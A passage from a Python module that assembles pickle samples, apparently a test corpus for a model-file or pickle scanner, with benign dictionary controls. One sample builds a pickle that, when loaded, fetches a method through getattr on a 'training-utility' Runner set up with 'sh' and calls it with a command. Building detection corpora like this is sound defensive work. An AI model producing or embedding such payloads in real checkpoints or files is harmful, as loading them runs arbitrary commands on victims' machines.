        "an unknown class's instance method fetched with getattr and called (training-utility helpers)")
def _(a):
    a.glob("builtins", "getattr")
    with a.tuple_():
        a.call("trainutils.hooks", "Runner", "sh")
        a.push("run")
    a.reduce()
    a.push((CMD,))
    a.reduce()
    a.stop()


# ================================================================== controls (benign, same containers)


@sample("control_plain_dict_p2", "control", 2, "benign control: a plain dict of literals", control=True)
def _(a):
    a.push({"step": 100, "lr": 1, "note": "clean"})
    a.stop()


@sample("control_ordered_dict_p2", "control", 2, "benign control: collections.OrderedDict (torch weights_only allowlist)",
        control=True)
def _(a):
    a.glob("collections", "OrderedDict")
    a.push(())
    a.reduce()
    a.raw(b"(")
    a.push("step").push(100)
    a.raw(b"u")
    a.stop()


BY_ID: Dict[str, Sample] = {s.id: s for s in SAMPLES + CONTROLS}
assert len(BY_ID) == len(SAMPLES) + len(CONTROLS), "duplicate sample ids"


def get(sample_id: str) -> Optional[Sample]:
    return BY_ID.get(sample_id)


__all__ = ["SAMPLES", "CONTROLS", "BY_ID", "Sample", "FAMILIES", "SENTINEL", "CMD", "PY", "inner_payload"]
